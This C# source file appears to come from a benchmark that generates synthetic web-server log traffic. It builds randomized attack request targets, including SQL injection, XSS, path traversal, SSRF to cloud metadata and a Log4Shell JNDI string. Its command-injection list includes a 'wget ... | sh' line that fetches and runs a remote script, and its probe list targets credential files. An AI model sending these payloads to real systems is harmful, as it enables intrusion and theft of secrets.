using System.Globalization;

namespace Noroshi.Benchmarks.Logs.Web;

/// <summary>Attack targets from small grammars: a vocabulary for each class, put together and encoded by chance.</summary>
internal static class Payloads
{
    private static readonly string[] Kinds = ["sqli", "xss", "traversal", "command", "template", "exploit", "ssrf", "file"];
    private static readonly string[] Names = ["id", "q", "page", "file", "cat", "name", "url", "lang", "view"];
    private static readonly string[] Tables = ["users", "information_schema.tables", "accounts", "wp_users", "dual"];
    private static readonly string[] Files = ["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "WEB-INF/web.xml"];
    private static readonly string[] Commands = ["id", "cat /etc/passwd", "wget http://203.0.113.9/x.sh -O- | sh", "uname -a", "ping -c 3 203.0.113.9", "whoami"];
    private static readonly string[] Sensitive = ["/.git/config", "/.env", "/wp-config.php.bak", "/.aws/credentials", "/backup.sql", "/.ssh/id_rsa", "/phpinfo.php", "/.svn/entries"];

    internal static (string Kind, string Target) Next(Chance chance, Site site)
    {
        var kind = chance.Of(Kinds);
        if (kind == "file") return (kind, chance.Of(Sensitive));
        if (kind == "exploit") return (kind, Exploit(chance));
        var payload = kind switch
        {
            "sqli" => Sql(chance),
            "xss" => Script(chance),
            "traversal" => string.Concat(Enumerable.Repeat(chance.Is(0.3) ? "..\\" : "../", chance.Between(3, 9))) + chance.Of(Files),
            "command" => chance.Of([";", "|", "&&", "`", "$("]) + chance.Of(Commands) + chance.Of(["", " #", ")", "`"]),
            "template" => chance.Of(["{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "#{7*7}", "{{''.__class__.__mro__[1].__subclasses__()}}"]),
            _ => chance.Of(["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/admin", "gopher://127.0.0.1:6379/_INFO", "file:///etc/passwd", "http://[::1]/"]),
        };
        return (kind, $"{site.Page(chance)}?{chance.Of(Names)}={Encode(chance, payload)}");
    }

    private static string Sql(Chance chance)
    {
        var open = chance.Of(["1", "1'", "-1", "x'", "1\"", "1)", "admin'"]);
        var body = chance.Below(6) switch
        {
            0 => string.Create(CultureInfo.InvariantCulture, $" union select {string.Join(',', Enumerable.Range(1, chance.Between(2, 9)))} from {chance.Of(Tables)}"),
            1 => string.Create(CultureInfo.InvariantCulture, $" or {chance.Between(1, 9)}={chance.Between(1, 9)}"),
            2 => " and sleep(5)",
            3 => $"; drop table {chance.Of(Tables)}",
            4 => $" and (select count(*) from {chance.Of(Tables)})>0",
            _ => " and extractvalue(1,concat(0x7e,version()))",
        };
        if (chance.Is(0.2)) body = body.Replace(" ", "/**/", StringComparison.Ordinal);
        if (chance.Is(0.3)) body = string.Concat(body.Select(c => chance.Is(0.5) ? char.ToUpperInvariant(c) : c));
        return open + body + chance.Of(["", "-- ", "#", "--+"]);
    }

    private static string Script(Chance chance) => chance.Below(5) switch
    {
        0 => "<script>alert(1)</script>",
        1 => "\"><img src=x onerror=alert(document.domain)>",
        2 => "<svg/onload=confirm`1`>",
        3 => "javascript:eval(atob('YWxlcnQoMSk='))",
        _ => "'-prompt(1)-'\"><iframe srcdoc=\"<script>parent.alert(1)</script>\">",
    };

    private static string Exploit(Chance chance) => chance.Below(5) switch
    {
        0 => "/?x=" + Encode(chance, "${jndi:ldap://203.0.113.9:1389/a}"),
        1 => "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        2 => "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        3 => "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
        _ => "/boaform/admin/formLogin?username=admin&psd=admin",
    };

    private static string Encode(Chance chance, string text)
    {
        var once = Uri.EscapeDataString(text);
        return chance.Below(4) switch { 0 => Uri.EscapeDataString(once), 1 => once.Replace("%20", "+", StringComparison.Ordinal), _ => once };
    }
}
